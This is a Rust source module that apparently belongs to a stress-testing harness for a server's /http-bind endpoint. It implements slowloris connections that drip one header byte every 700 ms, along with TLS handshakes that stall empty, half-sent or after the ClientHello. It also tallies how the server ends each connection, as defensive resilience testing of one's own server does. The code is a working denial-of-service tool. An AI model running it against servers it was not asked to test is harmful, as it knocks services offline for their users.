//! Slowloris, and TLS handshakes that stop half-way: connections that cost an attacker nothing and never become a request.

use std::io;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::spawn_local;
use tokio::time::timeout;

use super::dial::{Buffer, Door, SERVER_NAME};
use super::tally::{Attack, Attacker, Pace};

/// Connections of slowloris.
pub(super) const SLOW: u64 = 5_000;
/// Handshakes under way.
pub(super) const HANDSHAKES: u64 = 2_000;
const NEW_PER_SECOND: u32 = 2_000;
const BYTE_EVERY: Duration = Duration::from_millis(700);

/// Heads that come byte by byte, half of them over TLS; whoever is thrown out comes back.
pub(super) fn slowloris(attacker: Rc<Attacker>) -> Attack {
    Box::pin(async move {
        let pace = Pace::per_second(NEW_PER_SECOND);
        for number in 0..SLOW {
            let (attacker, pace) = (Rc::clone(&attacker), Rc::clone(&pace));
            let door = if number % 2 == 0 { Door::Plain } else { Door::Tls };
            drop(spawn_local(async move {
                loop {
                    pace.take(1).await;
                    if attacker.is_over() {
                        return;
                    }
                    match drip(&attacker, door).await {
                        Ok(ended) => attacker.seen(ended, 1),
                        Err(_) => attacker.seen("reset", 1),
                    }
                }
            }));
        }
        attacker.end().await;
    })
}

/// Answers how the node ended it.
async fn drip(attacker: &Attacker, door: Door) -> io::Result<&'static str> {
    let mut stream = attacker.dialer.open(door, Buffer::Usual).await?;
    attacker.sent("connections", 1);
    let begin = format!("GET /http-bind?room=slow HTTP/1.1\r\nHost: {SERVER_NAME}\r\nX-Slow: ");
    stream.write_all(begin.as_bytes()).await?;
    let mut answer = [0; 64];
    loop {
        stream.write_all(b"x").await?;
        stream.flush().await?;
        attacker.sent("bytes of a header", 1);
        if let Ok(read) = timeout(BYTE_EVERY, stream.read(&mut answer)).await {
            return Ok(match &answer[..read?] {
                [] => "closed",
                answer if answer.starts_with(b"HTTP/1.1 408 ") => "408",
                _ => "another answer",
            });
        }
    }
}

/// Connections to the TLS port that say nothing, half a ClientHello, or a ClientHello and no more.
pub(super) fn handshakes(attacker: Rc<Attacker>) -> Attack {
    Box::pin(async move {
        let pace = Pace::per_second(NEW_PER_SECOND);
        for number in 0..HANDSHAKES {
            let (attacker, pace) = (Rc::clone(&attacker), Rc::clone(&pace));
            drop(spawn_local(async move {
                loop {
                    pace.take(1).await;
                    if attacker.is_over() {
                        return;
                    }
                    match stop_half_way(&attacker, number).await {
                        Ok(()) => attacker.seen("closed", 1),
                        Err(_) => attacker.seen("reset", 1),
                    }
                }
            }));
        }
        attacker.end().await;
    })
}

async fn stop_half_way(attacker: &Attacker, number: u64) -> io::Result<()> {
    let mut stream = attacker.dialer.tcp(Door::Tls, Buffer::Usual).await?;
    let hello = attacker.dialer.client_hello()?;
    let (what, said) = match number % 3 {
        0 => ("silent connections", &hello[..0]),
        1 => ("half ClientHellos", &hello[..hello.len() / 2]),
        _ => ("ClientHellos", &hello[..]),
    };
    stream.write_all(said).await?;
    attacker.sent(what, 1);
    let mut answer = [0; 4096];
    while stream.read(&mut answer).await? > 0 {}
    Ok(())
}
